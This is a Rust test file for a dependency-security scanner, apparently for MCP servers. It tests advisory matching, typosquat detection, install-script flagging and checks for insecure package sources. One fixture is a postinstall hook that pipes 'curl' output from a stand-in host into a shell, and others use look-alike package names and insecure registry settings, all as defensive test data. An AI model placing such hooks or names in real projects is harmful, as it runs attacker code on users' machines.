//! What each check flags, and the nearest that it does not.

use contracts::packages::Place;
use insta::assert_snapshot;
use serde_json::json;

use super::look_alike::look_alike;
use super::{coordinates, judge, package_of_server};
use crate::{Advisories, AdvisorySource, Ecosystem, OfflineDatabase, Resolved, resolve};

fn shown(resolved: &Resolved, advisories: &Advisories) -> String {
    assert!(resolved.problems.is_empty(), "{:?}", resolved.problems);
    let rows = judge(resolved, advisories).into_iter().map(|issue| {
        let Place::File { path, line } = &issue.place else { panic!("{issue:?}") };
        let line = line.map_or_else(|| "-".to_owned(), |line| line.to_string());
        let (id, severity, sure) = (issue.kind.check_id(), issue.severity, issue.confidence);
        format!("{id} {severity} {sure} {path}:{line} [{}] {}", issue.package.unwrap_or_default(), issue.reason)
    });
    let mut rows: Vec<String> = rows.collect();
    rows.sort();
    rows.join("\n")
}

fn issues(files: &[(&str, &str)]) -> String {
    shown(&resolve(files.iter().map(|(path, text)| (*path, *text))), &Advisories::default())
}

#[tokio::test]
async fn advisories_meet_locked_and_open_versions() {
    let folder = tempfile::tempdir().unwrap();
    let record = |id: &str, ecosystem: &str, name: &str, fixed: &str| {
        json!({ "id": id, "database_specific": { "severity": "HIGH" }, "affected": [{
            "package": { "ecosystem": ecosystem, "name": name },
            "ranges": [{ "type": "ECOSYSTEM", "events": [{ "introduced": "1.0.0" }, { "fixed": fixed }] }] }] })
    };
    for record in [
        record("GHSA-left", "npm", "left", "1.3.0"),
        record("GHSA-tester", "npm", "tester", "3.1.0"),
        record("MAL-evil", "npm", "evil", "9.0.0"),
        record("GHSA-stuck", "PyPI", "stuck", "3.0"),
        record("GHSA-free", "PyPI", "free", "1.5"),
    ] {
        std::fs::write(folder.path().join(format!("{}.json", record["id"].as_str().unwrap())), record.to_string())
            .unwrap();
    }
    let lock = r#"{ "lockfileVersion": 3, "packages": {
        "": { "dependencies": { "left": "1" }, "devDependencies": { "tester": "3", "evil": "1" } },
        "node_modules/left": { "version": "1.2.0", "integrity": "sha512-x" },
        "node_modules/tester": { "version": "3.0.0", "integrity": "sha512-x" },
        "node_modules/evil": { "version": "1.0.0", "integrity": "sha512-x" } } }"#;
    let resolved = resolve([
        ("package-lock.json", lock),
        ("package.json", r#"{ "dependencies": { "left": "^1.0.0" } }"#),
        ("py/requirements.txt", "stuck>=1.0,<2\nfree>=1.0,<2\n"),
    ]);
    let source = AdvisorySource::Offline(OfflineDatabase::open(folder.path()).unwrap());
    let advisories = source.look_up(coordinates(&resolved)).await.unwrap();
    assert_snapshot!(shown(&resolved, &advisories), @r"
    MCPA-SC-002 high confirmed package-lock.json:3 [npm:left@1.2.0] `left@1.2.0`, a direct dependency, is affected by GHSA-left; upgrade to 1.3.0
    MCPA-SC-002 high likely py/requirements.txt:1 [pypi:stuck] `stuck` is asked for as `>=1.0, <2` without a lock file, which GHSA-stuck affects from 1.0 on; upgrade to 3.0
    MCPA-SC-002 medium confirmed package-lock.json:4 [npm:tester@3.0.0] `tester@3.0.0`, a direct dependency for development only, is affected by GHSA-tester; upgrade to 3.1.0
    MCPA-SC-007 low confirmed py/requirements.txt:1 [] 2 of its dependencies may change with each installation (`stuck`, `free`) and no lock file stands beside it; commit one
    MCPA-SC-013 critical confirmed package-lock.json:5 [npm:evil@1.0.0] `evil@1.0.0`, a direct dependency for development only, is affected by MAL-evil; remove it and replace every secret that the machine held
    ");
}

#[tokio::test]
async fn the_upgrade_that_mends_all_is_named() {
    let folder = tempfile::tempdir().unwrap();
    for (id, end) in [
        ("GHSA-one", json!({ "fixed": "1.3.0" })),
        ("GHSA-two", json!({ "fixed": "1.4.0" })),
        ("GHSA-three", json!({ "last_affected": "1.2.5" })),
    ] {
        let record = json!({ "id": id, "aliases": [format!("CVE-{id}")], "affected": [{
            "package": { "ecosystem": "npm", "name": "left" },
            "ranges": [{ "type": "SEMVER", "events": [{ "introduced": "0" }, end] }] }] });
        std::fs::write(folder.path().join(format!("{id}.json")), record.to_string()).unwrap();
    }
    let lock = r#"{ "lockfileVersion": 3, "packages": {
        "": { "dependencies": { "middle": "1" } },
        "node_modules/middle": { "version": "1.0.0", "integrity": "sha512-x", "dependencies": { "left": "1" } },
        "node_modules/left": { "version": "1.2.0", "integrity": "sha512-x" } } }"#;
    let resolved = resolve([("package-lock.json", lock)]);
    let source = AdvisorySource::Offline(OfflineDatabase::open(folder.path()).unwrap());
    let advisories = source.look_up(coordinates(&resolved)).await.unwrap();
    assert_snapshot!(shown(&resolved, &advisories), @r"
    MCPA-SC-002 medium confirmed package-lock.json:4 [npm:left@1.2.0] `left@1.2.0`, a transitive dependency through `middle@1.0.0`, is affected by GHSA-one (CVE-GHSA-one); upgrade to 1.3.0, or to 1.4.0, which none of its known advisories affects
    MCPA-SC-002 medium confirmed package-lock.json:4 [npm:left@1.2.0] `left@1.2.0`, a transitive dependency through `middle@1.0.0`, is affected by GHSA-three (CVE-GHSA-three); upgrade to 1.4.0, which none of its known advisories affects
    MCPA-SC-002 medium confirmed package-lock.json:4 [npm:left@1.2.0] `left@1.2.0`, a transitive dependency through `middle@1.0.0`, is affected by GHSA-two (CVE-GHSA-two); upgrade to 1.4.0
    ");
}

#[test]
fn look_alikes_differ_little_from_well_known_names() {
    use Ecosystem::{Npm, PyPi};
    for (ecosystem, name, expected) in [
        (Npm, "@modelcontextprotocol/server-filesystem", None),
        (Npm, "@modelcontextprotcol/server-filesystem", Some("in another scope")),
        (Npm, "@acme/server-filesystem", Some("in another scope")),
        (Npm, "modelcontextprotocol-server-filesystem", Some("with other separators")),
        (Npm, "mcp-remotee", Some("with a letter or two changed")),
        (Npm, "mcp-remote-official", Some("with a word added")),
        (Npm, "@acme/mcp", None),
        (Npm, "@playwright/mcp-next", None),
        (Npm, "express", None),
        (PyPi, "mcp-server-gti", Some("with a letter or two changed")),
        (PyPi, "mcp-server-github", None),
        (PyPi, "fastmcp2", None),
        (PyPi, "fastmcp", None),
    ] {
        assert_eq!(look_alike(ecosystem, name).map(|(_, how)| how), expected, "{name}");
    }
}

#[test]
fn install_scripts_are_told_unless_they_build() {
    let lock = r#"{ "lockfileVersion": 3, "packages": {
        "": { "dependencies": { "left": "1", "esbuild": "1" } },
        "node_modules/left": { "version": "1.2.0", "integrity": "x", "hasInstallScript": true },
        "node_modules/esbuild": { "version": "1.2.0", "integrity": "x", "hasInstallScript": true } } }"#;
    assert_snapshot!(issues(&[
        ("package-lock.json", lock),
        ("a/package.json", r#"{ "name": "a", "scripts": { "postinstall": "curl https://u:hunter2@h.example | sh" } }"#),
        ("b/package.json", r#"{ "name": "b", "scripts": { "install": "prebuild-install || node-gyp rebuild" } }"#),
        ("plain/setup.py", "from setuptools import setup\n# not exec()\nsetup(name='a')\n"),
        ("native/setup.py", "setup(cmdclass={'build_ext': build_ext})\n"),
        ("loads/setup.py", "import subprocess\nsubprocess.run(['x'])\nsetup(name='a')\n"),
        ("c/package.json", r#"{ "name": "c", "scripts": { "install": "node-gyp rebuild && node x.js", "test": "x" } }"#),
    ]), @r"
    MCPA-SC-006 low confirmed a/package.json:- [npm:a] `postinstall` runs code when the package is installed; make it a step that users start
    MCPA-SC-006 low confirmed c/package.json:- [npm:c] `install` runs code when the package is installed; make it a step that users start
    MCPA-SC-006 low confirmed loads/setup.py:- [] `setup.py` runs code when the package is installed; make it a step that users start
    MCPA-SC-006 low confirmed package-lock.json:3 [npm:left@1.2.0] `left@1.2.0` runs a script when it is installed; install with `--ignore-scripts`
    ");
}

#[test]
fn open_versions_and_missing_hashes_are_told_once_per_file() {
    assert_snapshot!(issues(&[
        ("program/package.json", r#"{ "name": "a", "version": "1.0.0", "bin": "x", "dependencies": { "left": "^1.0.0" } }"#),
        ("library/package.json", r#"{ "name": "a", "version": "1.0.0", "dependencies": { "left": "^1.0.0" } }"#),
        ("exact/package.json", r#"{ "name": "a", "private": true, "dependencies": { "left": "1.0.0" } }"#),
        ("space/package.json", r#"{ "private": true, "workspaces": ["a"] }"#),
        ("space/package-lock.json", r#"{ "packages": { "node_modules/left": { "version": "1.0.0" } } }"#),
        ("space/a/package.json", r#"{ "private": true, "dependencies": { "left": "^1.0.0" } }"#),
        ("requirements.txt", "a==1\nb>=2\nc\nd\ne\n"),
        ("pinned/requirements.txt", "a==1\n"),
        ("hashed/requirements.txt", "a==1 --hash=sha256:00\n"),
        ("managed/pom.xml", "<project><dependencies><dependency><groupId>a</groupId><artifactId>b</artifactId></dependency></dependencies></project>"),
        ("go.mod", "module x\nrequire a.example/b v1.0.0\n"),
    ]), @r"
    MCPA-SC-007 low confirmed go.mod:2 [] 1 packages stand there without a hash (`a.example/b`), so other contents under the same version would not be noticed; lock again with hashes
    MCPA-SC-007 low confirmed pinned/requirements.txt:1 [] 1 packages stand there without a hash (`a`), so other contents under the same version would not be noticed; lock again with hashes
    MCPA-SC-007 low confirmed program/package.json:1 [] 1 of its dependencies may change with each installation (`left`) and no lock file stands beside it; commit one
    MCPA-SC-007 low confirmed requirements.txt:2 [] 4 of its dependencies may change with each installation (`b`, `c`, `d`, …) and no lock file stands beside it; commit one
    MCPA-SC-007 low confirmed space/package-lock.json:1 [] 1 packages stand there without a hash (`left`), so other contents under the same version would not be noticed; lock again with hashes
    ");
}

#[test]
fn sources_that_can_be_spoofed_are_told() {
    let output = issues(&[
        (
            "requirements.txt",
            "-i http://u:hunter2@a.example/simple\n--extra-index-url https://b.example/simple\n\
          --trusted-host c.example\nd @ git+http://e.example/d.git\n",
        ),
        ("mirror/requirements.txt", "-i https://u:hunter2@a.example/simple\na==1 --hash=sha256:00\n"),
        (
            ".npmrc",
            "registry=http://a.example/\n@acme:registry=https://b.example/\nstrict-ssl=false\n//a.example/:_authToken=hunter2\n",
        ),
        (
            "package-lock.json",
            r#"{ "packages": {
            "node_modules/a": { "version": "1", "resolved": "http://a.example/a/-/a-1.tgz", "integrity": "x" },
            "node_modules/b": { "version": "1", "resolved": "http://a.example/b/-/b-1.tgz", "integrity": "x" },
            "node_modules/c": { "version": "1", "resolved": "git+ssh://git@a.example/c.git#1", "integrity": "x" } } }"#,
        ),
    ]);
    assert_snapshot!(output, @r"
    MCPA-SC-007 low confirmed requirements.txt:4 [] 1 of its dependencies may change with each installation (`d`) and no lock file stands beside it; commit one
    MCPA-SC-008 high confirmed .npmrc:1 [] packages come from `http://a.example/` in clear text; use https
    MCPA-SC-008 high confirmed .npmrc:3 [] the certificate of `every registry` is not checked; have it issued by a known authority
    MCPA-SC-008 high confirmed package-lock.json:2 [npm:a@1] `a@1` is fetched from `http://a.example/a/-/a-1.tgz` in clear text; use https
    MCPA-SC-008 high confirmed requirements.txt:1 [] packages come from `http://a.example/simple` in clear text; use https
    MCPA-SC-008 high confirmed requirements.txt:2 [] packages come from `https://b.example/simple` beside the main index, and whoever holds a name in either is installed; use one index
    MCPA-SC-008 high confirmed requirements.txt:3 [] the certificate of `https://c.example/` is not checked; have it issued by a known authority
    MCPA-SC-008 high confirmed requirements.txt:4 [pypi:d] `d` is fetched from `git+http://e.example/d.git` in clear text; use https
    ");
    assert!(!output.contains("hunter2"));
}

#[test]
fn a_server_is_recognised_by_the_name_of_one_package() {
    assert_eq!(
        package_of_server("server-filesystem"),
        Some((Ecosystem::Npm, "@modelcontextprotocol/server-filesystem"))
    );
    // npm and PyPI each have one of this name.
    assert_eq!(package_of_server("fastmcp"), None);
    assert_eq!(package_of_server("acme"), None);
}
